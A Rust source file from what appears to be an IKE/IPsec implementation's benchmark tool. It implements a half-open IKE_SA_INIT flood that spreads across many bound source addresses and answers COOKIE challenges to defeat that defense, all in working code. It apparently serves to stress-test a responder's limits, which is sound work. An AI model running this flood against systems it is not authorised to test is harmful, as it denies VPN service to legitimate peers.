//! `esprit bench-ike --flood-from PREFIX`: a half-open IKE flood against a
//! responder, the attack of RFC 7296 §2.6 made harder: the flood comes from
//! many real addresses (one socket bound to each address of `PREFIX`) and
//! answers every COOKIE demand, so the responder cannot tell it from
//! initiators that are merely slow. Each request gets as far as the
//! IKE_SA_INIT response and never sends IKE_AUTH: every exchange leaves one
//! half-open IKE SA at the responder, which must expire, stay under its caps
//! and not stop legitimate peers.
//!
//! Bind to many addresses with an AnyIP route (`ip route add local
//! 198.51.100.0/24 dev lo`) and route the prefix towards this host at the
//! responder.
use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use esprit_ike::{AuthBackend, AuthError, AuthInput, ChildConfig, Endpoint, EndpointConfig, Identity, PeerConfig, ProposalSpec, ProtocolId, TrafficSelector};
use mio::net::UdpSocket as MioUdp;
use mio::{Events, Interest, Poll, Token};

/// What to flood and how hard (from `esprit bench-ike --flood-from`).
pub struct Flood {
    pub remote: IpAddr,
    pub remote_port: u16,
    /// IKE and ESP proposals offered.
    pub ike: String,
    pub esp: String,
    /// Source addresses (a prefix).
    pub from: String,
    pub rate: u64,
    pub seconds: u64,
}

/// Exchange type of IKE_SA_INIT (RFC 7296 §3.1), at byte 18 of the header.
const IKE_SA_INIT: u8 = 34;

/// Most source addresses used from the prefix.
const MAX_SOURCES: u32 = 1024;

/// Initiations before the attacking endpoint is replaced by a fresh one (its
/// abandoned IKE SAs would otherwise pile up here).
const RECYCLE_EVERY: u64 = 4096;

/// An attacker never authenticates: producing AUTH fails, so each of its
/// IKE SAs ends right after the IKE_SA_INIT response.
struct NeverAuth;

impl AuthBackend for NeverAuth {
    fn method(&mut self, _: &str) -> Result<u8, AuthError> {
        Ok(2)
    }
    fn produce(&mut self, _: &str, _: &AuthInput<'_>) -> Result<Vec<u8>, AuthError> {
        Err("a flood never authenticates".into())
    }
    fn verify(&mut self, _: &str, _: &AuthInput<'_>, _: u8, _: &[u8]) -> Result<bool, AuthError> {
        Ok(false)
    }
}

/// What a flood did, from the attacker's side.
#[derive(Debug, Default)]
struct Tally {
    requests: u64,
    cookies_answered: u64,
    responses: u64,
}

pub fn run(a: &Flood) -> Result<()> {
    let prefix = a.from.as_str();
    let (base, len) = crate::config::parse_prefix(prefix)?;
    let IpAddr::V4(base) = base else { bail!("--flood-from {prefix}: an IPv4 prefix is expected") };
    let hosts = if len >= 31 { 1 } else { (1u32 << (32 - len)).saturating_sub(2).min(MAX_SOURCES) };
    let first = u32::from(base) & (u32::MAX.checked_shl(32 - u32::from(len)).unwrap_or(0));
    let sources: Vec<IpAddr> = (0..hosts).map(|i| IpAddr::from(std::net::Ipv4Addr::from(first + 1 + i))).collect();
    let mut poll = Poll::new()?;
    let mut socks = Vec::with_capacity(sources.len());
    let mut by_addr = HashMap::new();
    for (i, ip) in sources.iter().enumerate() {
        let s = UdpSocket::bind(SocketAddr::new(*ip, 0))
            .with_context(|| format!("binding {ip} (add an AnyIP route for {prefix}: `ip route add local {prefix} dev lo`)"))?;
        s.set_nonblocking(true)?;
        let mut s = MioUdp::from_std(s);
        poll.registry().register(&mut s, Token(i), Interest::READABLE)?;
        by_addr.insert(s.local_addr()?, i);
        socks.push(s);
    }
    let locals: Vec<SocketAddr> = socks.iter().map(|s| s.local_addr()).collect::<std::io::Result<_>>()?;
    let endpoint = || -> Result<Endpoint> {
        let peers = locals
            .iter()
            .enumerate()
            .map(|(i, l)| -> Result<PeerConfig> {
                let ike = vec![ProposalSpec::parse(&a.ike, ProtocolId::Ike).map_err(anyhow::Error::msg)?];
                let esp = vec![ProposalSpec::parse(&a.esp, ProtocolId::Esp).map_err(anyhow::Error::msg)?];
                let ts = |ip: IpAddr| TrafficSelector::from_prefix(ip, 32);
                let child = ChildConfig::tunnel("net", esp, vec![ts(l.ip())], vec![ts(a.remote)]);
                let mut p = PeerConfig::new(&format!("f{i}"), Some(a.remote), Identity::fqdn(&format!("flood-{i}.example")), None, "never", ike, vec![child]);
                p.remote_port = a.remote_port;
                Ok(p)
            })
            .collect::<Result<_>>()?;
        let cfg = EndpointConfig { retransmit_timeout: Duration::from_secs(5), ..EndpointConfig::default() };
        Ok(Endpoint::new(cfg, peers, Box::new(NeverAuth), Box::new(<rand::rngs::StdRng as rand::SeedableRng>::from_entropy())))
    };
    let rate = a.rate.max(1);
    let duration = Duration::from_secs(a.seconds);
    println!("flooding {}:{} with IKE_SA_INIT from {} addresses of {prefix}, {rate}/s for {} s", a.remote, a.remote_port, locals.len(), a.seconds);
    let mut ep = endpoint()?;
    let mut t = Tally::default();
    let mut events = Events::with_capacity(256);
    let mut buf = vec![0u8; 65536];
    let start = Instant::now();
    let mut next_report = start + Duration::from_secs(5);
    while start.elapsed() < duration {
        let now = Instant::now();
        // Start what the rate allows so far, round robin over the sources.
        let due = (now.duration_since(start).as_secs_f64() * rate as f64) as u64;
        while t.requests < due {
            if t.requests > 0 && t.requests % RECYCLE_EVERY == 0 {
                ep = endpoint()?;
            }
            let i = (t.requests % locals.len() as u64) as usize;
            let _ = ep.initiate(now, &format!("f{i}"), locals[i], None);
            t.requests += 1;
        }
        while let Some(tx) = ep.poll_transmit() {
            // Only IKE_SA_INIT (first tries and COOKIE answers) leaves.
            if tx.data.get(18) != Some(&IKE_SA_INIT) {
                continue;
            }
            if let Some(s) = by_addr.get(&tx.local).and_then(|i| socks.get(*i)) {
                let _ = s.send_to(&tx.data, tx.remote);
            }
        }
        while ep.poll_event().is_some() {}
        let wait = Duration::from_secs_f64(1.0 / rate as f64).min(Duration::from_millis(10));
        match poll.poll(&mut events, Some(wait)) {
            Ok(()) => {}
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(e.into()),
        }
        for ev in events.iter() {
            let (Some(s), Some(local)) = (socks.get(ev.token().0), locals.get(ev.token().0)) else { continue };
            while let Ok((n, from)) = s.recv_from(&mut buf) {
                let before = ep.stats().sent;
                ep.handle_datagram(Instant::now(), *local, from, &buf[..n]);
                t.responses += 1;
                // A COOKIE demand is answered at once with a new IKE_SA_INIT.
                if ep.stats().sent > before {
                    t.cookies_answered += 1;
                }
            }
        }
        ep.handle_timeout(Instant::now());
        if Instant::now() >= next_report {
            next_report += Duration::from_secs(5);
            println!("  {:>3} s: {} requests, {} answered COOKIEs, {} responses", start.elapsed().as_secs(), t.requests, t.cookies_answered, t.responses);
        }
    }
    println!(
        "flood done: {} IKE_SA_INIT requests in {:.1} s from {} addresses, {} COOKIE demands answered, {} responses",
        t.requests,
        start.elapsed().as_secs_f64(),
        locals.len(),
        t.cookies_answered,
        t.responses
    );
    Ok(())
}
